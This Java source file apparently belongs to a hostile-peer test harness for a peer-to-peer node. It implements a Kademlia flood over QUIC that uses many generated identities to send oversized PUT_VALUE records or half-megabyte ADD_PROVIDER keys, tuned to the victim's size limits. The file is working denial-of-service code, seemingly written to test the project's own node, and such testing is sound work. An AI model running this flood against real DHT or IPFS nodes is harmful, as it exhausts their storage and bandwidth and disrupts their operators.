package io.github.p2pboot.hostile;

import com.google.protobuf.ByteString;
import io.github.p2pboot.codec.Varint;
import io.github.p2pboot.identity.PrivateKey;
import io.github.p2pboot.kademlia.pb.DhtProto.Message;
import io.github.p2pboot.kademlia.pb.DhtProto.Record;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.handler.codec.quic.QuicChannel;
import io.netty.handler.codec.quic.QuicStreamChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Kademlia requests the victim stores, as fast as it takes them, from several identities over
 * QUIC, one stream each carrying request after request (the victim answers every request on a
 * stream in turn; the answers are read and dropped): PUT_VALUE of large records in a namespace the
 * victim validates ({@link VictimMain#OPEN_NAMESPACE}), or ADD_PROVIDER with huge keys.
 */
final class KademliaFlood implements Siege.Attack {

    static final String PROTOCOL = "/ipfs/kad/1.0.0";
    /** Just under the victim's 64 KiB value limit, as the attack sent. */
    static final int VALUE_SIZE = 65_000;
    /** Half the victim's 1 MiB message limit. */
    static final int PROVIDER_KEY_SIZE = 500_000;
    private static final byte[] BIG = new byte[PROVIDER_KEY_SIZE];

    static {
        new java.util.Random(7).nextBytes(BIG);
    }

    enum Kind { PUT_VALUE, ADD_PROVIDER }

    private final Victim victim;
    private final Kind kind;
    private final int identities;
    private final int requestsEach;
    private final List<RawQuicPeer> peers = new ArrayList<>();

    KademliaFlood(Victim victim, Kind kind, int identities, int requestsEach) {
        this.victim = victim;
        this.kind = kind;
        this.identities = identities;
        this.requestsEach = requestsEach;
    }

    @Override
    public String run() throws Exception {
        long start = System.nanoTime();
        List<CompletableFuture<Long>> floods = new ArrayList<>();
        for (int i = 0; i < identities; i++) {
            PrivateKey identity = PrivateKey.generateEd25519();
            RawQuicPeer peer = RawQuicPeer.create(Siege.ATTACKERS, identity);
            peers.add(peer);
            QuicChannel connection = Attacks.quic(victim, peer);
            int sender = i;
            byte[] self = identity.peerId().toBytes();
            if (kind == Kind.ADD_PROVIDER) {
                // ADD_PROVIDER has no answer and the victim ends the stream after it: one stream each.
                floods.add(CompletableFuture.supplyAsync(() -> providersOnStreamsOfTheirOwn(connection, sender, self)));
                continue;
            }
            QuicStreamChannel stream = RawQuicPeer.openStream(connection, PROTOCOL, null).get(10, TimeUnit.SECONDS);
            AtomicInteger sent = new AtomicInteger();
            floods.add(Flood.start(stream, new Flood.Source() {
                @Override
                public ByteBuf next() {
                    int n = sent.getAndIncrement();
                    return n < requestsEach ? frame(request(sender, n, self)) : null;
                }

                @Override
                public boolean exhausted() {
                    return sent.get() >= requestsEach;
                }
            }, Long.MAX_VALUE, Attacks.STALL, Attacks.FLOOD_LIMIT).done());
        }
        long bytes = Attacks.joinAll(floods, Attacks.FLOOD_LIMIT.plusSeconds(10)).stream().mapToLong(Long::longValue).sum();
        long open = peers.size();
        return kind + " flood: " + identities + " identities sent " + Attacks.mib(bytes) + " of requests ("
                + (kind == Kind.PUT_VALUE ? VALUE_SIZE + " B values" : PROVIDER_KEY_SIZE + " B keys") + ", up to " + requestsEach
                + " each) in " + Attacks.seconds(start) + " over " + open + " QUIC connections";
    }

    /** Each request on a stream of its own, a few at a time; returns the bytes the victim took. */
    private long providersOnStreamsOfTheirOwn(QuicChannel connection, int sender, byte[] self) {
        Semaphore slots = new Semaphore(4);
        AtomicLong taken = new AtomicLong();
        long deadline = System.nanoTime() + Attacks.FLOOD_LIMIT.toNanos();
        List<CompletableFuture<Void>> writes = new ArrayList<>();
        try {
            for (int n = 0; n < requestsEach && System.nanoTime() < deadline && connection.isActive(); n++) {
                if (!slots.tryAcquire(5, TimeUnit.SECONDS)) {
                    break;
                }
                ByteBuf request = frame(request(sender, n, self));
                int length = request.readableBytes();
                CompletableFuture<Void> written = new CompletableFuture<>();
                RawQuicPeer.openStream(connection, PROTOCOL, null).whenComplete((stream, error) -> {
                    if (error != null) {
                        request.release();
                        written.complete(null);
                        return;
                    }
                    stream.writeAndFlush(request).addListener(f -> {
                        if (f.isSuccess()) {
                            taken.addAndGet(length);
                        }
                        stream.shutdownOutput();
                        written.complete(null);
                    });
                });
                written.orTimeout(10, TimeUnit.SECONDS).whenComplete((v, e) -> slots.release());
                writes.add(written);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        Attacks.joinAll(writes, Duration.ofSeconds(10));
        return taken.get();
    }

    private Message request(int sender, int n, byte[] self) {
        if (kind == Kind.PUT_VALUE) {
            ByteString key = ByteString.copyFrom("/" + VictimMain.OPEN_NAMESPACE + "/hostile-" + sender + "-" + n, StandardCharsets.UTF_8);
            return Message.newBuilder().setType(Message.MessageType.PUT_VALUE).setKey(key)
                    .setRecord(Record.newBuilder().setKey(key).setValue(ByteString.copyFrom(BIG, 0, VALUE_SIZE))).build();
        }
        // Unique keys: a counter in front of the same half megabyte.
        ByteString key = ByteString.copyFrom((sender + "-" + n + "-").getBytes(StandardCharsets.UTF_8))
                .concat(ByteString.copyFrom(BIG, 0, PROVIDER_KEY_SIZE));
        return Message.newBuilder().setType(Message.MessageType.ADD_PROVIDER).setKey(key)
                .addProviderPeers(Message.Peer.newBuilder().setId(ByteString.copyFrom(self))).build();
    }

    static ByteBuf frame(Message message) {
        return frameOf(message.toByteArray());
    }

    /** A uvarint-length-prefixed message, as Kademlia and identify frame theirs. */
    static ByteBuf frameOf(byte[] body) {
        return Unpooled.wrappedBuffer(Varint.encode(body.length), body);
    }

    @Override
    public void close() {
        peers.forEach(RawQuicPeer::close);
    }
}
